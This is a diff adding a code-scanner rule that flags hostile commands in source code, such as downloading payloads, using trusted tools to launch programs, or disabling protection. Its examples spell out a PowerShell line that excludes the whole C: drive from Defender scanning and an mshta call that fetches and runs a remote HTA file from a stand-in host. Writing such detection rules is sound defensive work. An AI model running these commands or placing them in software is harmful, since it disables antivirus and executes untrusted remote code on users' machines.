@@ -1,0 +1,38 @@
+import type { FileCheck } from '../../check.ts';
+
+export const check: FileCheck = {
+  id: 'rce-hostile-command',
+  title: 'Runs a command that attackers use',
+  severity: 'high',
+  kind: 'malice',
+  confidence: 'medium',
+  since: '0.1.0',
+  cwe: [506],
+  why: `
+    The code has the system download and hide things, start programs through tools that filters trust, or switch off what
+    protects the machine. Each of these commands is an everyday step of an attack and a rare one of honest software.`,
+  fix: 'Remove it. Where it is needed, say so in the documentation and let the user run it.',
+  blindSpots: 'Commands that are put together in another function are not seen.',
+  wants: { acts: ['risky-command'] },
+  examples: {
+    bad: [
+      {
+        'run.py':
+          "import subprocess\n«subprocess.run('powershell.exe Add-MpPreference -ExclusionPath C:/', shell=True)»\n",
+      },
+      {
+        'load.js': "const { execSync } = require('child_process');\n«execSync('mshta https://c.example.net/a.hta')»;\n",
+      },
+    ],
+    good: [
+      { 'build.py': 'import subprocess\nsubprocess.run(["powershell", "-File", "build.ps1"])\n' },
+      { 'get.js': "execSync('curl -fsSL -o data.json https://api.example.com/data');\n" },
+    ],
+  },
+
+  *find({ acts, span }) {
+    for (const { start, end, message, confidence } of acts) {
+      if (confidence !== 'low') yield { at: span(start, end), message, confidence };
+    }
+  },
+};
